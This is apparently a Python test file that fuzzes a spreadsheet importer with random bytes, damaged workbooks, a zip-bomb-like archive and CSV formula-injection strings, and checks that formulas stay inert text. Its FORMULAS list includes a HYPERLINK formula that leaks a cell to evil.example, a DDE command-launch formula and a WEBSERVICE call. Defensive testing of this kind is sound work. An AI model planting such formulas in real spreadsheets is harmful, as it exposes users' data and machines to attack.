"""The spreadsheet importer under hostile input: random bytes, truncated workbooks, huge cells, formulas.

Property: whatever the bytes, ``import_spreadsheet`` returns a graph or raises InputError / ValidationFailed
with a message naming the file; the CLI then exits 1 or 2 with a one-line-per-problem message, no
traceback, and writes no output file. Formulas such as ``=HYPERLINK(...)`` are data, never evaluated.
Hypothesis runs a bounded, derandomized number of examples.
"""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rdflib import Literal
from rdflib.namespace import SKOS

from reallabor.errors import InputError, ValidationFailed

from .conftest import DATA, run_cli
from .helpers import bounded

MUSTERSTADT = DATA / "spreadsheet" / "musterstadt"
BOUNDED = bounded(40)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example")',
]


def import_folder(folder: Path):
    from reallabor.spreadsheet import import_spreadsheet

    return import_spreadsheet(folder)


def copy_musterstadt(tmp: Path) -> Path:
    target = tmp / "sheet"
    if target.exists():
        shutil.rmtree(target)
    shutil.copytree(MUSTERSTADT, target)
    (target / "README.md").unlink(missing_ok=True)
    return target


def set_cell(folder: Path, table: str, row: int, column: str, value: str) -> None:
    path = folder / f"{table}.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    rows[row][rows[0].index(column)] = value
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


def assert_graph_or_clear_error(source: Path) -> object | None:
    try:
        return import_folder(source)
    except (InputError, ValidationFailed) as exc:
        assert source.name in str(exc) or str(source) in str(exc), str(exc)[:300]
        return None


@pytest.fixture(scope="module")
def workbook(tmp_path_factory) -> bytes:
    """A valid workbook: the template the tool writes for the bundled data."""
    folder = tmp_path_factory.mktemp("template") / "out"
    done = run_cli("template", str(folder))
    assert done.returncode == 0, done.stderr.decode()
    return next(folder.glob("*.xlsx")).read_bytes()


def test_musterstadt_imports(tmp_path):
    # The fuzzing below starts from this valid spreadsheet; it must import, or the properties prove nothing.
    graph = import_folder(copy_musterstadt(tmp_path))
    assert len(graph) > 20


@BOUNDED
@given(
    table=st.sampled_from(["labs", "measures", "programmes", "phases", "measure_sdgs"]),
    data=st.binary(max_size=2000),
)
def test_random_bytes_as_a_table(tmp_path, table, data):
    folder = copy_musterstadt(tmp_path)
    (folder / f"{table}.csv").write_bytes(data)
    assert_graph_or_clear_error(folder)


@BOUNDED
@given(
    table=st.sampled_from(["labs", "measures"]),
    column=st.sampled_from(["id", "label_de", "label_en", "programme", "lab", "source", "start_date"]),
    value=st.one_of(st.text(max_size=300), st.sampled_from(FORMULAS), st.just('"unbalanced'), st.just("a\x00b")),
)
def test_arbitrary_cell_values(tmp_path, table, column, value):
    folder = copy_musterstadt(tmp_path)
    header = (folder / f"{table}.csv").read_text(encoding="utf-8-sig").splitlines()[0].split(",")
    if column not in header:
        return
    set_cell(folder, table, 1, column, value)
    assert_graph_or_clear_error(folder)


@BOUNDED
@given(cut=st.integers(min_value=0, max_value=10**9), flip=st.integers(min_value=0, max_value=10**9))
def test_truncated_or_damaged_workbook(tmp_path, workbook, cut, flip):
    path = tmp_path / "book.xlsx"
    data = bytearray(workbook[: cut % (len(workbook) + 1)])
    if data and flip % 2:
        data[flip % len(data)] ^= 0xFF
    path.write_bytes(bytes(data))
    try:
        import_folder(path)
    except (InputError, ValidationFailed) as exc:
        assert "book.xlsx" in str(exc)


def test_random_bytes_as_a_workbook(tmp_path):
    path = tmp_path / "random.xlsx"
    path.write_bytes(bytes(range(256)) * 8)
    with pytest.raises(InputError, match=r"random\.xlsx"):
        import_folder(path)


def test_zip_bomb_like_workbook_is_refused_or_read(tmp_path):
    # A sheet entry that inflates to 50 MB of spaces: a clear error or a graph, in bounded memory.
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * 50_000_000)
        archive.writestr("[Content_Types].xml", b"<Types/>")
    with pytest.raises(InputError):
        import_folder(path)


def test_huge_cell_gives_a_graph_or_a_clear_error(tmp_path):
    folder = copy_musterstadt(tmp_path)
    huge = "Ä" * 2_000_000
    set_cell(folder, "labs", 1, "label_de", huge)
    graph = assert_graph_or_clear_error(folder)
    if graph is not None:
        assert Literal(huge, lang="de") in set(graph.objects(None, SKOS.prefLabel))


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_formula_is_kept_as_text(tmp_path, formula):
    folder = copy_musterstadt(tmp_path)
    set_cell(folder, "labs", 1, "label_en", formula)
    graph = import_folder(folder)
    assert Literal(formula, lang="en") in set(graph.objects(None, SKOS.prefLabel))


def test_xlsx_formula_is_kept_as_text(tmp_path, workbook):
    import openpyxl

    source = tmp_path / "source.xlsx"
    source.write_bytes(workbook)
    book = openpyxl.load_workbook(source)
    sheet = book["labs"]
    headers = [c.value for c in sheet[1]]
    sheet.cell(row=2, column=headers.index("label_en") + 1, value=FORMULAS[0])  # stored as a formula
    book.save(source)
    graph = import_folder(source)
    assert Literal(FORMULAS[0], lang="en") in set(graph.objects(None, SKOS.prefLabel))


def test_template_neutralises_formula_injection(tmp_path):
    from reallabor.spreadsheet.write import csv_bytes, xlsx_bytes

    rows = [{"label": formula} for formula in FORMULAS]
    text = csv_bytes(["label"], rows).decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    import openpyxl

    path = tmp_path / "t.xlsx"
    path.write_bytes(xlsx_bytes([("labs", ["label"], rows)]))
    sheet = openpyxl.load_workbook(path)["labs"]
    assert all(cell.data_type == "s" for cell in sheet["A"][1:])


@pytest.mark.slow
@pytest.mark.parametrize("bad", ["random", "truncated"])
def test_cli_import_of_bad_input_writes_nothing(tmp_path, workbook, bad):
    source = tmp_path / "in.xlsx"
    source.write_bytes(bytes(range(256)) * 4 if bad == "random" else workbook[: len(workbook) // 2])
    output = tmp_path / "out.ttl"
    output.write_bytes(b"old\n")
    done = run_cli("import", str(source), "-o", str(output))
    assert done.returncode in (1, 2)
    assert b"Traceback" not in done.stderr
    assert "in.xlsx" in done.stderr.decode()
    assert output.read_bytes() == b"old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.xlsx", "out.ttl"]


# -- CSV exports for spreadsheet users ------------------------------------------------------------------------


@pytest.mark.parametrize("formula", [*FORMULAS, "\tx", "\r=1"])
def test_portal_csv_tables_neutralise_formulas(formula):
    from reallabor.portal.tables import neutralise_formulas
    from reallabor.results import QueryResult, write_result

    result = QueryResult(
        "SELECT", variables=["label", "safe"], rows=[{"label": Literal(formula), "safe": Literal("ok")}]
    )
    table = neutralise_formulas(write_result(result, "csv"))
    header, row = list(csv.reader(io.StringIO(table, newline="")))
    assert header == ["label", "safe"]
    assert row == ["'" + formula, "ok"]  # the text survives, behind an apostrophe that makes it inert


def test_portal_csv_tables_are_unchanged_without_formulas(kg):
    from reallabor.portal.tables import SPARQL_DIR, csv_table
    from reallabor.results import write_result

    for query in sorted(SPARQL_DIR.glob("*.rq")):
        plain = write_result(kg.sparql(query.read_text(encoding="utf-8")), "csv").encode("utf-8")
        assert csv_table(kg, query.name) == plain


def test_sparql_csv_results_stay_exact(kg):
    # SPARQL 1.1 CSV is for programs: the endpoint's CSV keeps a leading = as the data says.
    from reallabor.results import QueryResult, write_result

    result = QueryResult("SELECT", variables=["v"], rows=[{"v": Literal("=1+1")}])
    assert list(csv.reader(io.StringIO(write_result(result, "csv"))))[1] == ["=1+1"]
